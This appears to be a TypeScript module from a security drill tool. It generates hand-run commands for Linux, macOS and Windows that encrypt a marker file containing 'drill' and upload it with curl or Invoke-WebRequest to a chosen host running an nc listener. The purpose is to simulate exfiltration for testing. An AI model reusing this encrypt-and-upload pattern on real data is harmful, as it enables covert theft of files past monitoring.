/** The drill's commands for who runs them by hand: the receiver first, on another host or this one. */
export interface HandDrill {
  readonly system: string;
  readonly receiver: string;
  readonly commands: readonly string[];
}

/** `to` is `address:port` of a receiver of the reader's choice. */
export function drillsByHand(marker: string, address: string, port: number): readonly HandDrill[] {
  const posix = [
    `echo drill > /tmp/${marker}.txt`,
    `openssl enc -aes-256-cbc -k postern-drill -in /tmp/${marker}.txt -out /tmp/${marker}.bin`,
    `curl -s -m 20 -T /tmp/${marker}.bin http://${address}:${port}/`,
  ];
  return [
    { system: 'Linux', receiver: `nc -l -p ${port}`, commands: posix },
    { system: 'macOS', receiver: `nc -l ${port}`, commands: posix },
    {
      system: 'Windows (PowerShell)',
      receiver: `nc -l -p ${port}   (on a Linux host)`,
      commands: [
        `$a=[Security.Cryptography.Aes]::Create(); $d=[Text.Encoding]::UTF8.GetBytes('drill'); $c=$a.CreateEncryptor().TransformFinalBlock($d,0,$d.Length); [IO.File]::WriteAllBytes("$env:TEMP\\${marker}.bin",$c)`,
        `Invoke-WebRequest -Method Put -InFile "$env:TEMP\\${marker}.bin" -Uri http://${address}:${port}/ -TimeoutSec 20`,
      ],
    },
  ];
}
